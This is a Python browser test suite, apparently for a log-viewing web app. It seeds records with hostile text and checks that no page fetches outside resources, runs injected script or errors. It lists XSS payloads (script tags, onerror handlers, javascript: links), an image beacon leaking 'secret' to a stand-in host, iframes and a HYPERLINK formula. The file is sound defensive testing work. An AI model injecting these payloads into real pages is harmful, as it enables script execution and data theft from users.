"""Text from a log can make no page call out, run a script, or break: the whole of every page, in a real browser."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from typing import TYPE_CHECKING
from uuid import uuid4

import pytest
from playwright.sync_api import expect

from analysis.record import RECORD
from analysis.store import Store
from analysis.workspace import Workspace
from app.navigation import ENTRIES
from tests.serving import Served, serving

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tests.browser.conftest import Watched

HOSTILE = (
    "![x](http://outside.invalid/leak.png?d=secret)",
    "<img src=http://outside.invalid/a.png onerror=document.title='taken'>",
    "<script>document.title='taken'</script>",
    "[link](javascript:document.title='taken') $\\href{http://outside.invalid/}{x}$ :red[x]",
    "<iframe src=http://outside.invalid/></iframe><link rel=stylesheet href=//outside.invalid/x.css>",
    '=HYPERLINK("http://outside.invalid")',
)
FREE = {column.name for column in RECORD if column.type == "VARCHAR"} - {
    "kind",
    "status",
    "messages",
    "tool_calls",
    "parameters",
}


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """A server on records whose every text is an attack."""
    home = tmp_path_factory.mktemp("hostile") / "workspace"
    store = Store(Workspace.at(home))
    now = datetime.now(UTC).replace(tzinfo=None)
    with store.write() as cursor:
        for number in range(120):
            text = HOSTILE[number % len(HOSTILE)]
            row = dict.fromkeys(sorted(FREE), text) | {
                "id": str(uuid4()), "import_id": 1, "kind": "call", "status": "error" if number % 5 == 0 else "ok",
                "session_id": f"{text} {number // 4}", "source_id": str(number), "time": now - timedelta(hours=number),
                "messages": json.dumps([{"role": "user", "content": text}, {"role": "assistant", "content": text}]),
                "attributes": json.dumps({text: text, "tier": text}), "latency": 1.0 + number % 7,
                "input_tokens": 100, "output_tokens": 50, "recorded_cost": 0.01,
            }  # fmt: skip
            names = ", ".join(f'"{name}"' for name in row)
            places = ", ".join("?::JSON::VARIANT" if name == "attributes" else "?" for name in row)
            cursor.execute(f"INSERT INTO records ({names}) VALUES ({places})", list(row.values()))
            cursor.execute(
                "INSERT INTO scores (id, import_id, record_id, target, name, value, label, comment, origin, time) "
                "VALUES (uuid(), 1, ?, 'call', ?, ?, ?, ?, 'user', ?)",
                [row["id"], "thumbs" if number % 2 else text, number % 2, text, text, now],
            )
    store.close()
    with serving(home) as server:
        yield server


@pytest.mark.parametrize("entry", [entry for entry in ENTRIES if entry.path.is_file()], ids=lambda entry: entry.name)
def test_a_page_of_hostile_text_asks_nothing_of_anyone(served: Served, watched: Watched, entry):
    page = watched.page
    page.goto(f"{served.url}/{'' if entry is ENTRIES[0] else entry.name}")
    expect(page.get_by_role("heading", name=entry.title).first).to_be_visible()
    expect(page.get_by_test_id("stApp")).to_have_attribute("data-test-script-state", "notRunning")
    expect(page.get_by_test_id("stException")).to_have_count(0)
    assert watched.outside() == []
    assert watched.blocked() == []
    assert "taken" not in page.title()


def test_what_gets_into_a_page_all_the_same_can_neither_call_out_nor_run(served: Served, watched: Watched):
    page = watched.page
    page.goto(served.url)
    expect(page.get_by_test_id("stApp")).to_be_visible()
    page.evaluate(
        """() => {
            document.body.insertAdjacentHTML("beforeend",
                "<img src='http://outside.invalid/a.png'><img src=x onerror=\\"document.title='taken'\\">" +
                "<iframe src='http://outside.invalid/'></iframe>")
            const script = document.createElement("script")
            script.textContent = "document.title = 'taken'"
            document.body.append(script)
            fetch("http://outside.invalid/").catch(() => {})
        }"""
    )
    for directive, number in (("script-src", 2), ("connect-src", 1), ("img-src", 1), ("frame-src", 1)):
        watched.wait_for_complaint(f"directive '{directive}", f'directive: "{directive}', number=number)
    assert "taken" not in page.title()
